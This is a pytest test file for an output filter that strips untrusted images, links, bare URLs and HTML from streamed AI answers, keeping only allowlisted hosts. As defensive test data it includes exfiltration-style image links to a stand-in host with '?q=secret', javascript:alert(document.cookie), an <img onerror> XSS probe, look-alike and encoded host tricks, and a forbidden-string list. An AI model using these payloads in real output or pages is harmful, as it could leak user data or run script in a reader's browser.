"""The answer output filter (safety/output_filter.py): which images, links and URLs survive,
and the streaming filter's promise that no token ever carries a disallowed URL."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from groundwire.safety.output_filter import OutputFilter, StreamingOutputFilter

ALLOW = OutputFilter(["docs.example.com", ".example.org", "bücher.example"])
NONE = OutputFilter()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # images: removed entirely unless allowed
        ("a ![x](http://evil.test/p.png?q=secret) b", "a  b"),
        ("![logo](https://docs.example.com/logo.png)", "![logo](https://docs.example.com/logo.png)"),
        ('![t](https://evil.test/x.png "title")', ""),
        # links: replaced by their text unless allowed
        ("see [the docs](http://evil.test/x) now", "see the docs now"),
        ("[ok](https://docs.example.com/a)", "[ok](https://docs.example.com/a)"),
        ("[sub](https://a.b.example.org/x)", "[sub](https://a.b.example.org/x)"),
        ("[apex](https://example.org/x)", "[apex](https://example.org/x)"),
        ("[no](https://notexample.org/x)", "no"),
        ("[exact only](https://sub.docs.example.com/)", "exact only"),
        # a link whose text is itself a URL
        ("[http://evil.test/x](http://evil.test/x)", ""),
        # nested image in an allowed link: the image goes, the link stays
        ("[![i](http://evil.test/i.png)](https://docs.example.com/)",
         "[](https://docs.example.com/)"),
        # schemes: only http(s) is ever allowed
        ("[x](javascript:alert(1))", "x"),
        ("[x](JAVASCRIPT:alert(1))", "x"),
        ("![x](data:image/png;base64,AAAA)", ""),
        ("[x](ftp://docs.example.com/f)", "x"),
        ("[x](//evil.test/p)", "x"),
        ("[x](/v1/records?q=1)", "x"),  # relative: no host, never allowed
        ("run javascript:alert(document.cookie) now", "run  now"),
        ("inline data:text/html;base64,PHNjcmlwdD4= here", "inline  here"),
        # bare URLs
        ("go to http://evil.test/a?b=c.", "go to ."),
        ("HTTPS://EVIL.TEST/X and https://DOCS.EXAMPLE.COM/y",
         " and https://DOCS.EXAMPLE.COM/y"),
        ("protocol-relative //evil.test/p here", "protocol-relative  here"),
        ("www.evil.test/x and www.example.org", " and www.example.org"),
        ("evil.io/path?q=secret and sub.example.org/ok", " and sub.example.org/ok"),
        ("no public suffix: build.local/x stays", "no public suffix: build.local/x stays"),
        ("<http://evil.test/a> <https://docs.example.com/b>", " <https://docs.example.com/b>"),
        # host tricks
        ("[x](https://docs.example.com@evil.test/)", "x"),
        ("[x](https://evil.test\\.docs.example.com/)", "x"),
        ("[x](https://docs.example.com.evil.test/)", "x"),
        ("[x](https://%65vil.test/)", "x"),
        ("[x](https://dоcs.example.com/)", "x"),  # Cyrillic о: a look-alike, not allowed
        ("[idn](https://xn--bcher-kva.example/)", "[idn](https://xn--bcher-kva.example/)"),
        ("[idn](https://BÜCHER.example/)", "[idn](https://BÜCHER.example/)"),
        ("[x](https://docs.example.com./p)", "[x](https://docs.example.com./p)"),
        # HTML: anything that can load or link is removed whatever the host
        ('<img src="https://docs.example.com/a.png">', ""),
        ("<IMG SRC=x onerror=alert(1)>", ""),
        ('<a href="https://docs.example.com">text</a>', "text"),
        ('<div style="background:url(http://evil.test)">t</div>', "t</div>"),
        ("<iframe src=//evil.test></iframe>", ""),
        # prose that only looks like markup survives
        ("if a<b and c>d then", "if a<b and c>d then"),
        ("Node.js, ASP.NET and example.com", "Node.js, ASP.NET and example.com"),
        ("It costs 12 dollars [1]. It sank in 1912 [1, 2].",
         "It costs 12 dollars [1]. It sank in 1912 [1, 2]."),
        ("mail me at someone@example.net", "mail me at someone@example.net"),
    ],
)
def test_filter_rules(text: str, expected: str) -> None:
    assert ALLOW.filter(text) == expected


def test_an_empty_allowlist_allows_no_external_link_or_image() -> None:
    text = "[a](https://docs.example.com/) ![b](https://docs.example.com/b.png) https://x.io/y"
    out = NONE.filter(text)
    assert out == "a  "
    assert not NONE.url_allowed("https://docs.example.com/")


def test_the_filter_is_a_fixed_point() -> None:
    tricky = "[[x](http://e.test)](http://f.test) <im<img src=q>g src=/x> ![a]( http://e.test )"
    once = ALLOW.filter(tricky)
    assert ALLOW.filter(once) == once
    assert "e.test" not in once and "f.test" not in once and "<img" not in once


# ---------------------------------------------------------------------- streaming

STREAM_TEXTS = [
    "See ![x](http://evil.test/a.png?q=secret) and [docs](https://docs.example.com/3/) or "
    "[bad](http://evil.test). Done [1].",
    "Visit http://evil.test/x?y=1. Also www.evil.test/foo and //evil.test/p, javascript:alert(1)"
    " end",
    "<img src=x onerror=alert(1)> <a href='http://evil.test'>click</a> a<b and c>d end",
    "x <im<img src=q>g src=/x> y",
    "The Team plan costs 12 US dollars per user [2]. Refunds within 30 days [1].",
]
FORBIDDEN = ("evil.test", "<img", "src=", "javascript:")


def _stream(f: OutputFilter, parts: list[str]) -> list[str]:
    s = StreamingOutputFilter(f)
    return [s.feed(p) for p in parts] + [s.flush()]


def _assert_safe(f: OutputFilter, shown: list[str]) -> None:
    joined = "".join(shown)
    assert f.filter(joined) == joined  # what a client assembles is clean
    for piece in shown:
        for bad in FORBIDDEN:
            assert bad not in piece


@pytest.mark.parametrize("text", STREAM_TEXTS)
def test_every_two_and_three_way_split_streams_the_filtered_text(text: str) -> None:
    expected = ALLOW.filter(text)
    for i in range(len(text) + 1):
        for j in range(i, len(text) + 1, 5):
            shown = _stream(ALLOW, [text[:i], text[i:j], text[j:]])
            _assert_safe(ALLOW, shown)
            assert "".join(shown) == expected, (i, j, shown)


@pytest.mark.parametrize("text", STREAM_TEXTS)
def test_character_by_character(text: str) -> None:
    shown = _stream(ALLOW, list(text))
    _assert_safe(ALLOW, shown)
    assert "".join(shown) == ALLOW.filter(text)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(STREAM_TEXTS), st.lists(st.integers(0, 200), max_size=12))
def test_random_splits(text: str, cuts: list[int]) -> None:
    points = sorted({min(c, len(text)) for c in cuts})
    parts = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    shown = _stream(ALLOW, parts)
    _assert_safe(ALLOW, shown)
    assert "".join(shown) == ALLOW.filter(text)


def test_a_url_is_held_until_it_is_complete_not_cut_into_head_and_tail() -> None:
    s = StreamingOutputFilter(NONE)
    assert s.feed("Read http://evil.te") == "Read "
    assert s.feed("st/x?q=sec") == ""
    assert s.feed("ret now.") == " "  # the URL is gone; "now." could become "now.io/..."
    assert s.flush() == "now."


def test_prose_streams_promptly() -> None:
    s = StreamingOutputFilter(NONE)
    assert s.feed("The Titanic sank ") == "The Titanic sank "
    assert s.feed("in 1912 [1]") == "in 1912 "  # "[1](" would open a link: wait
    assert s.feed(". It") == "[1]. "  # a citation marker, not a link


def test_reset_drops_held_text_and_a_long_open_bracket_is_released_escaped() -> None:
    s = StreamingOutputFilter(NONE, max_hold=40)
    assert s.feed("[click here") == ""
    s.reset()
    assert s.flush() == ""
    shown = s.feed("[" + "a" * 60 + " ")
    assert shown.startswith("\\[a")  # escaped: can no longer open a link
    rest = s.feed("](http://evil.test/x) end") + s.flush()
    assert "evil.test" not in shown + rest
